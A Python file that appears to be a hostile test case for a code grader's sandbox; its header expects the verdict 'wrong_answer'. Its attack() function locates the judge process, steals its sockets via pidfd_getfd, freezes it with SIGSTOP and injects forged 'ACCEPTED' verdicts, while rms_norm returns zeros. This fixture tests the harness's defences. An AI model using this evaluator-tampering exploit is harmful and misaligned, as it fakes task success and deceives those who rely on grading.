"""Stops the judge, takes a copy of its socket out of it, and sends the command the verdicts that
it waits for.

problem: norms/rms_norm
row: 10, 13, 14
verdict: wrong_answer
needs: landlock
"""

import ctypes
import os
import signal
import struct
import sys
from itertools import groupby
from pathlib import Path

import msgspec
import torch
from grader import wire
from grader.model import Verdict
from grader.worker.solution import rung_of

_PIDFD_OPEN, _PIDFD_GETFD = 434, 438
libc = ctypes.CDLL(None)
done = False


def judge():
    """The first process that the warm one forked."""
    parent = os.getppid()
    try:
        children = Path(f"/proc/{parent}/task/{parent}/children").read_text().split()
        return min(map(int, children))
    except (OSError, ValueError):
        return os.getpid() - 2


def frames():
    frame = sys._getframe()
    while frame is not None and "items" not in frame.f_locals:
        frame = frame.f_back
    rungs = [rung_of(item) for item in frame.f_locals["items"].values()]
    for rung, cases in groupby(rungs):
        if rung != "signature":
            good = wire.Compared(Verdict.ACCEPTED, "", ("float32",))
            body = msgspec.msgpack.encode(wire.Comparison((good,) * len(list(cases))))
            yield struct.pack(">I", len(body)) + body


def attack():
    global done
    if done:
        return
    done = True
    pid = judge()
    handle = libc.syscall(_PIDFD_OPEN, pid, 0)
    copies = [libc.syscall(_PIDFD_GETFD, handle, n, 0) for n in range(3, 12)] if handle > 0 else []
    copies = [copy for copy in copies if copy > 0]
    if copies:
        os.kill(pid, signal.SIGSTOP)
        for frame in frames():
            for copy in copies:
                try:
                    os.write(copy, frame)
                except OSError:
                    pass


def rms_norm(x, weight, eps=1e-6):
    attack()
    return torch.zeros_like(x)
